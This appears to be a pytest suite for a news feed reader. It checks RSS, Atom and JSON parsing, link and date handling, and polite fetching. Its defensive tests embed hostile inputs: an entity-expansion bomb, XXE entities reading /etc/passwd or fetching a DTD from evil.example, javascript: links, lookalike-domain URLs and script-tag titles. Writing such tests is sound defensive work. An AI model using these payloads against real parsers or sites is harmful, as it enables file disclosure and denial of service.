"""The publishers' feeds: what is read of good ones, and that bad ones do no harm and are told in a word."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from time import monotonic
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.leads.feeds import MOST_ITEMS, FeedItem, FeedsRead, day_of, items_of, plain, read_feeds
from generator.model.content import Content
from generator.model.records import Publisher
from generator.watch.answer import Answer
from generator.watch.fetch import Limits
from tests import sources
from tests.made import content as made
from tests.made import fact, record
from tests.sources import SMALL, Source, Visit, answer, fetcher, packed, redirect

DAY = date(2026, 12, 3)
HERE = "https://paper.example.org/feeds/all"
DOMAINS = ("paper.example.org",)
NEWS = FeedItem(
    "paper", "https://paper.example.org/news/1", "Port & quay open", "Forty companies moved in.", date(2026, 11, 29)
)


@pytest.fixture
def source() -> Iterator[Source]:
    with sources.running() as running:
        yield running


def rss(*items: str, head: str = "", before: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return f'{before}<rss version="2.0"><channel><title>Paper</title>{head}{"".join(items)}</channel></rss>'


def item(title: str = "Port &amp; quay open", link: str = "/news/1", more: str = "") -> str:
    return f"<item><title>{title}</title><link>{link}</link>{more}</item>"


def read(body: str | bytes, kind: str = "application/rss+xml", **more: Any) -> Any:
    """What is read of a body that the address HERE has."""
    data = body.encode() if isinstance(body, str) else body
    return items_of(Answer(HERE, 200, kind, body=data, **more), "paper", DOMAINS)


def titles(body: str | bytes, kind: str = "application/rss+xml") -> list[str]:
    found = read(body, kind)
    assert not isinstance(found, str), found
    return [one.title for one in found]


# --- good feeds ---------------------------------------------------------------------------------------------------

TEXT = "<description>&lt;p&gt;Forty&lt;/p&gt; &lt;b&gt;companies&lt;/b&gt; moved in.</description>"
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://paper.example.org/"><title>Paper</title>
  <link rel="self" href="/feeds/all"/><entry><id>tag:paper.example.org,2026:1</id>
  <title type="html">Port &amp;amp; &lt;i&gt;quay&lt;/i&gt; open</title>
  <link rel="enclosure" href="https://paper.example.org/a.mp3"/><link href="news/1"/>
  <summary type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Forty <b>companies</b> moved in.</div></summary>
  <updated>2026-11-30T01:00:00Z</updated><published>2026-11-29T23:30:00+08:00</published></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Paper</title></channel><item>
  <title>Port &amp; quay open</title><link>https://paper.example.org/news/1</link><dc:title>Not this</dc:title>
  <description>Forty companies moved in.</description><dc:date>2026-11-29T08:00:00+08:00</dc:date></item></rdf:RDF>"""
JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Paper",
    "items": [
        {
            "id": "1",
            "url": "/news/1",
            "title": "Port & quay open",
            "content_html": "<p>Forty companies moved in.</p>",
            "date_published": "2026-11-29T08:00:00+08:00",
        }
    ],
}


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (rss(item(more=f"{TEXT}<pubDate>Sun, 29 Nov 2026 08:00:00 GMT</pubDate>")), "application/rss+xml"),
        (rss(item(more=f"{TEXT}<pubDate>2026-11-29 08:00:00</pubDate>")), "text/html; charset=utf-8"),
        (ATOM, "application/atom+xml"),
        (RDF, "text/xml"),
        (json.dumps(JSON), "application/feed+json"),
        ("\ufeff" + json.dumps(JSON), "text/plain"),
    ],
)
def test_rss_atom_and_json_feeds_say_the_same(body: str, kind: str) -> None:
    assert read(body, kind) == (NEWS,)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (rss(item("港口 AI"), before='<?xml version="1.0" encoding="gb2312"?>').encode("gb18030"), "text/xml"),
        (rss(item("港口 AI")).encode("gb18030"), "text/xml; charset=utf-8"),
        (rss(item("港口 AI"), before="").encode("utf-16"), "text/xml"),
        (rss(item("港口 AI"), before="").encode("utf-8-sig"), "text/xml; charset=latin-1"),
        (rss(item("港口 AI"), before='\n<?xml version="1.0" encoding="big5"?>').encode("big5"), "text/xml"),
        (rss(item("港口 AI"), before='<?xml version="1.0" encoding="unicode_escape"?>'), "text/xml"),
    ],
)
def test_an_encoding_that_is_named_wrongly_or_not_at_all_is_found(body: str | bytes, kind: str) -> None:
    assert titles(body, kind) == ["港口 AI"]


@pytest.mark.parametrize(
    ("link", "address"),
    [
        ("../news/2?a=1&amp;b=2#part", "https://paper.example.org/news/2?a=1&b=2#part"),
        ("//www.paper.example.org/x", "https://www.paper.example.org/x"),
        (" HTTP://paper.example.org/新 ", "http://paper.example.org/%E6%96%B0"),
        ("https://paper.example.org/a`b(c)'d\"e", "https://paper.example.org/a%60b%28c%29%27d%22e"),
    ],
)
def test_a_link_is_resolved_and_written_in_ascii(link: str, address: str) -> None:
    (found,) = read(rss(item(link=link)))
    assert found.address == address


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)", "data:text/html,x", "https://evil.example/news/1", "https://paper.example.org@evil.example/",
        "https://paper.example.org.evil.example/", "https://xpaper.example.org/", "http://[", "/", "file:///etc/x",
        f"/{'x' * 400}", "http://paper.example.org:x/",
    ],
)  # fmt: skip
def test_an_item_that_leads_elsewhere_is_left_out(link: str) -> None:
    assert read(rss(item(link=link))) == ()
    assert read(json.dumps({"items": [{"title": "A", "url": link}]})) == ()


def test_where_the_link_leads_elsewhere_the_guid_may_be_the_address() -> None:
    guid = "<guid>https://paper.example.org/news/1</guid>"
    (found,) = read(rss(item(link="https://counter.example/1", more=guid)))
    assert found.address == "https://paper.example.org/news/1"
    assert read(rss(item(link="", more="<guid>news-1</guid>"))) == ()


def test_what_is_missing_is_missing_and_no_error() -> None:
    (found,) = read(rss(item(more="<pubDate>soon</pubDate>")))
    assert (found.published, found.summary) == (None, "")
    assert read(rss("<item><link>/news/1</link></item>")) == ()
    (found,) = read(rss("<item><link>/1</link><description>Words alone.</description></item>"))
    assert found.title == "Words alone."
    assert read(rss()) == ()


def test_entities_of_html_and_tags_become_text_and_what_cannot_be_seen_goes() -> None:
    title = (
        "A&nbsp;B &eacute;&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x&amp;gt; \u202e\u200bC\u00ad\ue000D"
    )
    assert titles(rss(item(title))) == ["A B é C D"]
    assert titles(rss(item("Sh\u00adang\u200bhai"))) == ["Shanghai"]
    assert titles(rss(item("<![CDATA[<b>A</b> & B]]>"))) == ["A & B"]
    (found,) = read(json.dumps({"items": [{"title": "A\u001b[31m\ud800\nB", "url": "/1"}]}))
    assert found.title == "A [31m B"


def test_a_text_is_cut_and_a_feed_is_read_up_to_a_bound() -> None:
    (found,) = read(rss(item("x" * 10_000, more=f"<description>{'y ' * 10_000}</description>")))
    assert (len(found.title), found.title[-1], len(found.summary)) == (160, "…", 1000)
    assert len(read(rss(*(item(f"{n}", f"/{n}") for n in range(2 * MOST_ITEMS))))) == MOST_ITEMS


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("Sun, 29 Nov 2026 23:59:00 -0500", date(2026, 11, 29)),
        ("29 Nov 26 08:00 GMT", date(2026, 11, 29)),
        ("2026-11-29", date(2026, 11, 29)),
        ("2026-11-29T08:00:00Z", date(2026, 11, 29)),
        ("Published: 2026-11-29!", date(2026, 11, 29)),
        ("2026-13-41", None),
        ("Sun, 99 Nov 2026 08:00:00 GMT", None),
        ("Sun, 29 Nov 999999999999 08:00:00 GMT", None),
        ("", None),
    ],
)
def test_a_date_is_read_as_feeds_write_it(text: str, day: date | None) -> None:
    assert day_of(text) == day


@given(st.text(max_size=80))
def test_no_date_and_no_text_is_an_error(text: str) -> None:
    assert day_of(text) is None or isinstance(day_of(text), date)
    line = plain(text, 40)
    assert len(line) <= 40
    assert line.isprintable() or not line


# --- bad feeds ----------------------------------------------------------------------------------------------------

BOMB = '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)


@pytest.mark.parametrize(
    "body",
    [
        rss(item("&j;"), before=f"{BOMB}]>"),
        rss(item("&x;"), before='<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        rss(item(), before='<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>'),
        rss(item(), before='<!DOCTYPE rss [<!ENTITY x "y">]>').encode("utf-16"),
    ],
)
def test_a_feed_with_entities_of_its_own_is_refused(body: str | bytes) -> None:
    assert read(body) == "it declares entities of its own, which may be a trap"


def test_a_document_type_elsewhere_is_not_fetched(source: Source) -> None:
    dtd = f'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "{source.url}/rss.dtd">'
    assert titles(rss(item(), before=dtd)) == [NEWS.title]
    style = f'<?xml version="1.0"?><?xml-stylesheet href="{source.url}/x.xsl"?>'
    include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{source.url}/y" parse="text"/>'
    assert titles(rss(item(more=include), before=style)) == [NEWS.title]
    assert source.asked == []


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ("<!DOCTYPE html><title>Not here</title><item><title>A</title></item>", "no feed is at its address"),
        ("<html><body><p>Words", "no feed is at its address"),
        ("", "no feed is at its address"),
        ("Words", "no feed is at its address"),
        (b"\x00\xff\xfe\x00", "no feed is at its address"),
        (b"%PDF-1.7", "no feed is at its address"),
        ("{", "it cannot be read as JSON"),
        ('{"items":' + "[" * 100_000, "it cannot be read as JSON"),
        ('{"items": ' + "9" * 10_000 + "}", "it cannot be read as JSON"),
        ('{"items": 3}', "no feed is at its address"),
        ("{}", "no feed is at its address"),
        ("[]", "no feed is at its address"),
    ],
)
def test_what_is_no_feed_is_told_in_words(body: str | bytes, why: str) -> None:
    assert read(body) == why


def test_odd_feeds_give_what_can_be_read_of_them() -> None:
    assert titles(rss(item("A"), item("B", "/2"))[: -len("</item></channel></rss>")]) == ["A", "B"]
    (found,) = read(rss(item("R&D & more", "<![CDATA[/1?a=1&b=2]]>")))
    assert (found.title, found.address) == ("R&D & more", "https://paper.example.org/1?a=1&b=2")
    deep = "<a>" * 50_000 + "</a>" * 50_000
    assert read(rss(item("A"), head=deep)) in ((), "no feed is at its address")
    odd: list[Any] = [
        None,
        1,
        [],
        {},
        {"title": 5, "url": "/1"},
        {"title": "A", "url": ["/1"]},
        {"title": "B", "url": "/2"},
    ]
    assert titles(json.dumps({"items": odd})) == ["B"]


@given(st.binary(max_size=300))
def test_no_bytes_are_an_error(body: bytes) -> None:
    assert isinstance(read(body), (tuple, str))
    assert isinstance(read(b"<rss><channel><item><title>" + body), (tuple, str))
    assert isinstance(read(b'{"items": [{"url": "/1", "title": "' + body), (tuple, str))


# --- over a server ------------------------------------------------------------------------------------------------


def publishers(*feeds: str) -> Content:
    """Content whose publishers a, b, c … have feeds at these addresses, and articles on this machine."""
    made_up = (
        Publisher(id=f"paper-{name}", name=f"Paper {name}", class_="trade press", domains=("127.0.0.1",), feed=feed)
        for name, feed in zip("abcdefgh", feeds, strict=False)
    )
    content = made([record("r", fact("f"))])
    return replace(content, publishers={**content.publishers, **{one.id: one for one in made_up}})


def test_feeds_are_asked_for_politely_and_one_after_the_other(source: Source) -> None:
    source.pages |= {
        "/robots.txt": answer("User-agent: *\nDisallow: /private\nCrawl-delay: 9"),
        "/rss": packed(rss(item("A", "/a")).encode()),
        "/old": redirect("/rss2"),
        "/rss2": answer(rss(item("B", "b?x=1")), kind="text/html"),
        "/private/rss": answer(rss(item("C", "/c"))),
    }
    clock = sources.Clock()
    urls = [f"{source.url}{path}" for path in ("/rss", "/old", "/private/rss", "/rss")]
    found = read_feeds(publishers(*urls), fetcher(clock, does="reads the feeds"), DAY)
    assert [(one.publisher, one.address, one.title) for one in found.items] == [
        ("paper-a", f"{source.url}/a", "A"),
        ("paper-b", f"{source.url}/b?x=1", "B"),
        ("paper-d", f"{source.url}/a", "A"),
    ]
    assert (found.read, found.unread) == (3, "")
    assert found.failed == (("paper-c", "its robots.txt asks not to be read"),)
    # An address that two have is asked for once, and robots.txt first.
    assert source.paths == ["/robots.txt", "/rss", "/old", "/rss2"]
    assert clock.slept == [4, 9, 9]
    assert all(headers["User-Agent"].endswith("; reads the feeds)") for _, headers in source.asked)


def test_a_feed_without_news_need_not_be_sent(source: Source) -> None:
    def unchanged(visit: Visit) -> None:
        known = visit.headers.get("If-Modified-Since")
        (answer("", 304, None) if known else answer(rss(item("Old"))))(visit)

    source.pages |= {"/feed": unchanged, "/good": answer(rss(item("A", "/a")))}
    found = read_feeds(publishers(f"{source.url}/feed", f"{source.url}/good"), fetcher(), DAY)
    assert ([one.title for one in found.items], found.read, found.failed) == (["A"], 2, ())
    asked = dict(source.asked)
    # What is older than four weeks is no news.
    assert asked["/feed"]["If-Modified-Since"] == asked["/good"]["If-Modified-Since"] == "Thu, 05 Nov 2026 00:00:00 GMT"


@pytest.mark.parametrize(
    ("act", "why"),
    [
        (answer("Not here", 404), "status 404"),
        (answer("Broken", 500), "status 500"),
        (answer(rss(item()), Content_Encoding="br"), "not text"),
        (packed(b"x" * 30_000_000), "too large"),
        (sources.endless, "too large"),
        (sources.cut_short, "no answer"),
        (sources.nonsense, "no answer"),
        (redirect("/feed"), "redirects"),
        (redirect("file:///etc/passwd"), "redirects"),
        (answer("<html>", kind="text/html"), "no feed is at its address"),
    ],
)
def test_a_feed_that_cannot_be_read_is_named_and_the_others_are_read(act: Any, why: str, source: Source) -> None:
    source.pages |= {"/feed": act, "/good": answer(rss(item("A", "/a")))}
    found = read_feeds(publishers(f"{source.url}/feed", f"{source.url}/good"), fetcher(limits=SMALL), DAY)
    assert found.failed == (("paper-a", why),)
    assert ([one.title for one in found.items], found.read) == (["A"], 1)


def test_a_slow_server_is_left_and_without_any_answer_there_is_no_network(source: Source) -> None:
    source.pages |= {"/feed": sources.dripping, "/robots.txt": answer("User-agent: *")}
    quick = Limits(connect=60, total=0.2, delay=0)
    found = read_feeds(publishers(f"{source.url}/feed"), fetcher(clock=monotonic, limits=quick), DAY)
    assert found == FeedsRead(unread="no server answered (is there a network?)")


def test_without_a_feed_nobody_is_asked(source: Source) -> None:
    assert read_feeds(made([record("r", fact("f"))]), fetcher(), DAY) == FeedsRead()
    assert source.asked == []
